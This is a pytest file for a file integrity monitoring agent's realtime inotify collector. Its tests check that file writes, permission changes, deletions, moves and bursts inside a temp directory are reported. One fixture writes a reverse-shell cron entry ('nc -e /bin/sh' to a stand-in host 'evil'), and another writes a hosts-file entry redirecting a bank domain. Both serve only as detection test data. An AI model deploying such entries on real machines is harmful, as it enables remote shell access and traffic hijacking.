"""FIM realtime through the real watchdog inotify observer: events arrive within seconds."""

from __future__ import annotations

import os
import shutil
import time

import pytest

from tests.agent.test_fim_support import make, poll, run, settle

# watchdog's own recursive inotify walk can race with a directory created under it and warns that it
# re-registers the same watch; harmless (the watch is replaced), and not ours to fix.
pytestmark = pytest.mark.filterwarnings("ignore:Callback with id:RuntimeWarning")


@pytest.fixture
def live(tmp_path):
    """A started collector with its baseline built and no rescan due for an hour."""
    c, w = make(tmp_path, rescan_every_s=3600)
    (w / "etc").mkdir()
    (w / "etc" / "hosts").write_text("127.0.0.1 localhost\n")
    assert run(c) == []
    c.start()
    assert settle(c) == []  # realtime armed, and the pass that follows the baseline done
    yield c, w
    c.close()


def action(path, name):
    return lambda i: i.data.get("path") == str(path) and i.data.get("action") == name


def test_write_is_seen_within_seconds(live):
    c, w = live
    started = time.monotonic()
    (w / "etc" / "cron.d").write_text("* * * * * root nc -e /bin/sh evil 4444\n")
    items = poll(c, action(w / "etc" / "cron.d", "created"))
    assert time.monotonic() - started < 3
    ev = next(i.data for i in items if i.data["path"] == str(w / "etc" / "cron.d"))
    assert ev["scan"] == "realtime" and ev["sha256"] and ev["kind"] == "file"


def test_modify_chmod_delete_and_move(live):
    c, w = live
    hosts = w / "etc" / "hosts"
    hosts.write_text("6.6.6.6 bank.example\n")
    ev = next(i.data for i in poll(c, action(hosts, "modified")) if i.data["path"] == str(hosts))
    assert "sha256" in ev["changed_attributes"]
    hosts.chmod(0o666)
    ev = next(i.data for i in poll(c, action(hosts, "attributes")) if i.data["path"] == str(hosts))
    assert ev["changed_attributes"]["mode"] == {"old": "0644", "new": "0666"}
    hosts.rename(w / "etc" / "hosts.bak")
    items = poll(c, action(w / "etc" / "hosts.bak", "created"))
    assert any(action(hosts, "deleted")(i) for i in items + run(c))


def test_new_directory_tree_is_seen(live):
    c, w = live
    (w / "etc" / "new" / "deep").mkdir(parents=True)
    (w / "etc" / "new" / "deep" / "payload").write_text("x")
    poll(c, action(w / "etc" / "new" / "deep" / "payload", "created"))


def test_watched_root_deleted_and_recreated(live):
    c, w = live
    shutil.rmtree(w)
    items = poll(c, action(w, "deleted"))
    assert any(action(w / "etc" / "hosts", "deleted")(i) for i in items)
    w.mkdir()
    # The recreated root is watched again by the next collect(); files written after that are live.
    poll(c, action(w, "created"), interval=0.05)
    time.sleep(0.2)
    (w / "again").write_text("x")
    poll(c, action(w / "again", "created"))
    assert os.path.isdir(w)


def test_realtime_can_be_switched_off_per_path(tmp_path):
    c, w = make(tmp_path, rescan_every_s=3600, path_options={str(tmp_path / "w" / "logs"): {"realtime": False}})
    (w / "logs").mkdir()
    run(c)
    c.start()
    settle(c)
    try:
        (w / "logs" / "app.log").write_text("x")
        (w / "conf").write_text("x")
        items = poll(c, action(w / "conf", "created"))
        time.sleep(0.3)
        items += run(c)
        assert not any(i.data["path"] == str(w / "logs" / "app.log") for i in items)
    finally:
        c.stop()
    c.last_rescan = -1e9  # rescan due: it catches what realtime skipped
    assert any(action(w / "logs" / "app.log", "created")(i) for i in run(c))


def test_stop_leaves_rescans_working(live):
    c, w = live
    c.stop()
    assert c.status()["realtime"] is False
    (w / "etc" / "hosts").unlink()
    time.sleep(0.2)
    assert run(c) == []  # no realtime, no rescan due
    c.last_rescan = -1e9
    assert any(action(w / "etc" / "hosts", "deleted")(i) for i in run(c))


def test_realtime_burst_is_summarised_when_the_window_closes(tmp_path):
    c, w = make(tmp_path, rescan_every_s=3600, burst_window_s=0.5, burst_per_dir=5, burst_total=50)
    run(c)
    c.start()
    settle(c)
    try:
        for i in range(100):
            (w / f"pkg{i:03}").write_text("x")
        items = poll(c, lambda i: i.data.get("action") == "summary")
        time.sleep(0.6)
        items += run(c)
    finally:
        c.stop()
    singles = [i for i in items if i.data["action"] == "created"]
    summarised = sum(i.data["count"] for i in items if i.data["action"] == "summary")
    assert len(singles) + summarised == 100 and summarised >= 90
    assert c.counters["summarised_burst"] == summarised and c.counters["files"] == 101


def test_excluded_files_are_ignored_in_realtime(live):
    c, w = live
    (w / "etc" / ".hosts.swp").write_text("x")
    (w / "etc" / "motd").write_text("x")
    items = poll(c, action(w / "etc" / "motd", "created"))
    assert not any(i.data["path"].endswith(".swp") for i in items)
